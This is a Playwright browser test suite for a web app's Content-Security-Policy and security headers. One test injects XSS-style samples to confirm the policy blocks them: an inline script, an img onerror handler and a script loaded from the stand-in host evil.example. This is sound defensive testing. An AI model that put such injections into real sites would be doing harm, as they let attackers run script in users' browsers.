"""The strict Content-Security-Policy in a real browser: the pages need nothing that it forbids."""

import re
from collections.abc import AsyncIterator, Iterator
from uuid import uuid4

import pytest
from playwright.async_api import Browser, Page, expect

from tests.browser.test_main_job import QUESTION, ask, open_page, sign_up
from tests.running import RunningServer

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

PAGES = (
    "/markets",
    "/imports",
    "/chart/AAPL",
    "/organisation",
    "/organisation/general",
    "/organisation/invitations",
    "/organisation/plan",
    "/settings",
    "/settings/appearance",
    "/settings/sign-in",
    "/settings/sessions",
    "/settings/keys",
    "/settings/privacy",
    "/settings/model-server",
    "/invitation",
    "/docs",
    "/confirm",
    "/recover",
    "/email",
)
WATCH = """
window.broken = [];
document.addEventListener('securitypolicyviolation', (event) =>
  window.broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningServer]:
    """A server of these tests."""
    running = RunningServer(tmp_path_factory.mktemp("data")).start()
    yield running
    running.stop()


@pytest.fixture
async def page(browser: Browser, server: RunningServer) -> AsyncIterator[Page]:
    """A page that writes down what the policy refuses."""
    page = await open_page(browser, server, [], viewport={"width": 1280, "height": 860})
    await page.add_init_script(WATCH)
    yield page
    await page.context.close()


async def broken(page: Page) -> list[str]:
    """Return what the policy refused since the page was loaded."""
    found: list[str] = await page.evaluate("window.broken")
    return found


async def test_no_page_needs_what_the_policy_forbids(page: Page) -> None:
    await page.goto("/sign-in")
    await expect(page.get_by_label("E-mail")).to_be_visible()
    assert await broken(page) == []
    await sign_up(page, f"{uuid4().hex[:12]}@example.com")
    await ask(page, QUESTION)
    await page.get_by_test_id("figure").first.click()
    await expect(page.get_by_test_id("source-panel")).to_be_visible()
    assert await broken(page) == []
    for address in PAGES:
        await page.goto(address, wait_until="networkidle")
        if address.startswith("/chart"):
            await expect(page.get_by_test_id("full-chart")).to_have_attribute("data-bars", re.compile(r"\d{2,}"))
        assert await broken(page) == [], address
    # Once more from what the browser kept.
    await page.reload()
    await expect(page.locator("main")).to_be_visible()
    assert await broken(page) == []


async def test_what_is_slipped_in_does_not_run(page: Page) -> None:
    await page.goto("/sign-in")
    await expect(page.get_by_label("E-mail")).to_be_visible()
    await page.evaluate(
        """() => {
        const script = document.createElement('script');
        script.textContent = "document.title = 'owned'";
        document.body.append(script);
        document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="document.title=1"><p style="color:red">');
        const far = document.createElement('script');
        far.src = 'https://evil.example/x.js';
        document.body.append(far);
    }"""
    )
    await page.wait_for_function("window.broken.length >= 5")
    refused = " ".join(await broken(page))
    for directive in (
        "script-src-elem inline",
        "script-src-elem https://evil.example",
        "style-src-attr inline",
        "img-src",
    ):
        assert directive in refused
    assert "owned" not in await page.title()


async def test_no_other_page_may_frame_one_or_an_answer(page: Page, server: RunningServer) -> None:
    for path in ("/sign-in", "/api/v1/openapi.json", "/livez"):
        answer = await page.request.get(path)
        policy = answer.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy
        assert "unsafe-inline" not in policy
        assert "unsafe-eval" not in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["cross-origin-opener-policy"] == "same-origin"
        assert answer.headers["cross-origin-resource-policy"] == "same-origin"
